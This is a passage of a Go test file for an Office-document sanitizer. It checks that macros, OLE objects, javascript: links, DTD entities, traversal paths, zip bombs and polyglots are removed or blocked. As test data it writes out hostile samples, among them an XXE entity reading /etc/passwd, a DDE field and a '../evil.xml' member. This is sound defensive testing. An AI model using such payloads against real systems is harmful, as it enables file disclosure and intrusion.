		`<p:pic><p:nvPicPr><p:cNvPr id="9" name="v"/><p:nvPr><a:videoFile r:link="rId4"/></p:nvPr></p:nvPicPr></p:pic></p:spTree></p:cSld><p:timing><p:tnLst><p:par><p:cTn id="1"><p:childTnLst><p:video/></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>`
	in := pptx(t, slide, []string{"rId1 oleObject ../embeddings/o.bin", "rId2 image ../media/p.png", "rId3 hyperlink javascript:alert(1) External", "rId4 video file:///c:/x.mp4 External"},
		map[string]string{"ppt/embeddings/o.bin": "MZ", "ppt/media/p.png": string(pngOf(t, testPicture(4, 4)))})
	rep, out := clean(t, "説明.pptm", in)
	parts := partsOf(t, out)
	got := parts["ppt/slides/slide1.xml"]
	for _, gone := range []string{"oleObj", "graphicFrame", "macro", "video", "timing", "Choice"} {
		if strings.Contains(got, gone) {
			t.Errorf("%s is still there: %s", gone, got)
		}
	}
	for _, want := range []string{"題名", `action="ppaction://hlinkshowjump?jump=nextslide"`, `<p:cNvPr id="7" name="表"/>`, `<p:pic xmlns:q="http://schemas.openxmlformats.org/drawingml/2006/main">`, `r:embed="rId2"`} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is lost: %s", want, got)
		}
	}
	for _, code := range []string{"ooxml.vba", "ooxml.ole", "ooxml.link", "ooxml.media", "ooxml.macro-call", "ooxml.font", "ooxml.custom-xml"} {
		if !has(rep, code, verdict.Removed) {
			t.Errorf("%s is not reported: %v", code, rep.Findings)
		}
	}
	if rep.OutName != "説明.pptx" || !strings.Contains(parts[typesName], "presentationml.presentation.main+xml") || strings.Contains(parts[typesName], "macro") {
		t.Errorf("%s: %s", rep.OutName, parts[typesName])
	}
}

func TestTemplatesKeepTheirKind(t *testing.T) {
	in := docx(t, map[string]string{"[Content_Types].xml": types(map[string]string{"word/document.xml": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"})})
	rep, out := clean(t, "ひな形.dotm", in)
	if ct := partsOf(t, out)[typesName]; rep.OutName != "ひな形.dotx" || !strings.Contains(ct, "wordprocessingml.template.main+xml") {
		t.Errorf("%s: %s", rep.OutName, ct)
	}
}

func TestBrokenAndHostilePackages(t *testing.T) {
	deep := strings.Repeat("<w:p>", markup.MaxDepth+5) + strings.Repeat("</w:p>", markup.MaxDepth+5)
	for name, c := range map[string]struct {
		in   []byte
		code string
	}{
		"nested too deeply":    {docx(t, body(deep)), "limit.depth"},
		"DTD":                  {docx(t, map[string]string{"word/document.xml": `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document ` + wNS + `>&e;</w:document>`}), "xml.dtd"},
		"entities":             {docx(t, body("<w:p>&xx;</w:p>")), "xml.dtd"},
		"not well-formed":      {docx(t, body("<w:p>")), "xml.broken"},
		"no main part":         {docx(t, map[string]string{"_rels/.rels": rels()}), "ooxml.broken"},
		"main part outside":    {docx(t, map[string]string{"_rels/.rels": rels("rId1 officeDocument http://198.51.100.9/x External")}), "ooxml.broken"},
		"two main parts":       {docx(t, map[string]string{"_rels/.rels": rels("rId1 officeDocument word/document.xml", "rId2 officeDocument word/document.xml")}), "ooxml.broken"},
		"name goes up":         {docx(t, map[string]string{"../evil.xml": "x"}), "ooxml.member"},
		"twice":                {docx(t, map[string]string{"WORD/document.xml": "x"}), "ooxml.duplicate"},
		"bomb":                 {docx(t, map[string]string{"word/bomb.bin": strings.Repeat("\x00", (8<<20)+1)}), "limit.expansion"},
		"cut off":              {docx(t, nil)[:300], "type.mismatch"},
		"root of no namespace": {docx(t, map[string]string{"word/document.xml": "<document/>"}), "ooxml.broken"},
	} {
		rep, _ := run(t, "a.docx", c.in)
		if rep.Outcome != verdict.Blocked || !has(rep, c.code, verdict.Refused) {
			t.Errorf("%s: got %s %v, want %s", name, rep.Outcome, rep.Findings, c.code)
		}
	}
	blocked(t, "a.docx", append([]byte("x"), docx(t, nil)...), "type.mismatch")
	blocked(t, "a.docx", append(docx(t, nil), "\n<html><script>x</script>"...), "type.polyglot")
	many := map[string]string{}
	for i := range container.MaxMembers + 1 {
		many["x/"+string(rune('a'+i%26))+strings.Repeat("b", i/26/64)+string(rune('0'+i/26%64))] = ""
	}
	blocked(t, "a.docx", docx(t, many), "limit.members")
}

// A relationship of a good kind that leads to a part of another kind is not followed, and nor is one of a kind nobody knows.
func TestRelationshipsLeadToTheirKindOnly(t *testing.T) {
	files := body(`<w:p><w:r><w:t>x</w:t></w:r></w:p>`)
	files["[Content_Types].xml"] = types(map[string]string{"word/document.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "word/a.xml": "application/vnd.ms-office.activeX+xml",
		"word/b.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"})
	files["word/a.xml"], files["word/b.xml"] = `<w:styles `+wNS+`/>`, `<w:styles `+wNS+`/>`
	files["word/_rels/document.xml.rels"] = rels("rId1 styles a.xml", "rId2 2099/relationships/new b.xml")
	rep, out := clean(t, "a.docx", docx(t, files))
	parts := partsOf(t, out)
	if parts["word/a.xml"]+parts["word/b.xml"] != "" || !has(rep, "ooxml.unknown-part", verdict.Removed) {
		t.Errorf("parts %v, findings %v", slices.Sorted(maps.Keys(parts)), rep.Findings)
	}
}

func FuzzOffice(f *testing.F) {
	f.Add(`<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
	f.Add(`<w:p><mc:AlternateContent><mc:Choice Requires="v"><w:object/></mc:Choice><mc:Fallback><v:shape src="x"/></mc:Fallback></mc:AlternateContent></w:p>`)
	f.Add(`<f xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">[1]A!B</f>`)
	f.Fuzz(func(t *testing.T, inner string) {
		rep, out := run(t, "a.docx", docx(t, body(inner)))
		if has(rep, "internal", verdict.Refused) {
			t.Fatalf("panic: %v", rep.Findings)
		}
		if rep.Outcome != verdict.Clean {
			return
		}
		partsOf(t, out)
		if again, twice := run(t, "a.docx", out); again.Outcome != verdict.Clean || !bytes.Equal(out, twice) {
			t.Fatalf("not settled: %v\n%q\n%q", again.Findings, partsOf(t, out), partsOf(t, twice))
		}
	})
}

func FuzzPackage(f *testing.F) {
	f.Add(docx(f, nil))
	f.Fuzz(func(t *testing.T, in []byte) {
		rep, out := run(t, "a.docx", in)
		if has(rep, "internal", verdict.Refused) {
			t.Fatalf("panic: %v", rep.Findings)
		}
		if rep.Outcome == verdict.Clean {
			partsOf(t, out)
		}
	})
}
